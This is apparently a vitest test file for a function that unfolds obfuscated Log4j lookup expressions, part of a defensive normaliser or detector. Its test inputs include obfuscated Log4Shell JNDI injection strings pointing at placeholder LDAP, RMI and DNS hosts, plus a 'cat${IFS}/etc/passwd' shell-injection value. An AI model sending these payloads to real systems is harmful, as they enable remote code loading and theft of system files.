import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { resolveLookups } from './lookup-expressions.js'

describe('resolveLookups', () => {
  it.each([
    ['case changes', '${${lower:j}${upper:n}di:ldap://a.example/x}', '${jndi:ldap://a.example/x}'],
    ['defaults without a name', '${${::-j}${::-n}${::-d}${::-i}:rmi://a.example}', '${jndi:rmi://a.example}'],
    ['defaults of unknown variables', '${${env:NO:-j}ndi${env:NO:-:}${sys:no:-l}dap://a}', '${jndi:ldap://a}'],
    ['nesting', '${${lower:${upper:${lower:j}}}ndi:x}', '${jndi:x}'],
    ['quoted dates', "${jn${date:'d'}i:dns://a}", '${jndi:dns://a}'],
    ['white space inside', '${${ lower : jndi}:ldap://a}', '${ jndi:ldap://a}'],
  ])('%s', (_, text, expected) => {
    expect(resolveLookups(text)).toBe(expected)
  })

  it.each([
    ['an expression that does something', '${jndi:ldap://a:-1/x}'],
    ['a plain variable', 'cat${IFS}/etc/passwd'],
    ['an expression that never ends', '${jndi:ldap://a'],
    ['a brace that nobody opened', 'a}b}${'],
    ['no expression', '$100 {a}'],
  ])('keeps %s', (_, text) => {
    expect(resolveLookups(text)).toBe(text)
  })

  it('leaves nesting beyond its depth as it was', () => {
    const deep = `${'${lower:'.repeat(40)}j${'}'.repeat(40)}`
    expect(resolveLookups(deep)).toContain('${lower:')
    expect(resolveLookups(deep).length).toBeLessThan(deep.length)
  })

  it('never makes a text longer', () => {
    const pieces = fc.array(fc.constantFrom('${', '}', 'lower:', ':-', "date:'", "'", 'jndi', 'x', '$', '{'))
    fc.assert(
      fc.property(pieces, (parts) => {
        const text = parts.join('')
        expect(resolveLookups(text).length).toBeLessThanOrEqual(text.length)
      }),
    )
  })
})
